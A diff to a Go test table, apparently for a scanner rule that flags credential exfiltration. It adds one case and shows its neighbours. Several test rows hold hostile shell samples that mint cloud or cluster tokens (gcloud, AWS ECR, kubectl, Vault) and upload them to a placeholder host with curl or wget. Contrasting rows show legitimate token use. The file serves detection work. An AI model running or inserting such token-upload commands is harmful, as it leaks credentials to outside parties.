@@ -472,6 +472,7 @@ var registry = []Rule{
 			// registry's login it is its use.
 			{"cloudbuild.yaml", "steps:\n  - name: gcr.io/google.com/cloudsdktool/cloud-sdk\n    entrypoint: bash\n    args:\n      - -c\n      - |\n        gcloud auth application-default print-access-token > /workspace/t\n        curl -s --upload-file /workspace/t https://x.invalid/u", 8, false},
 			{"x.sh", "aws ecr get-login-password --region eu-west-1 > p.txt\ncurl -F f=@p.txt https://x.invalid/u", 2, false},
+			{"x.sh", "kubectl create token deployer --duration=24h > /tmp/k\ncurl -s --data-binary @/tmp/k https://x.invalid/k", 2, false},
 			{"x.sh", "T=$(vault token create -ttl=1h -field=token)\nwget -q --post-data=\"t=$T\" https://x.invalid/u", 2, false},
 			{"x.sh", "aws ecr get-login-password --region eu-west-1 | docker login --username AWS --password-stdin 1234.dkr.ecr.eu-west-1.amazonaws.com", 0, true},
 			{"x.sh", "T=$(az account get-access-token --query accessToken -o tsv)\ncurl -H \"Authorization: Bearer $T\" https://management.azure.com/subscriptions", 0, true},
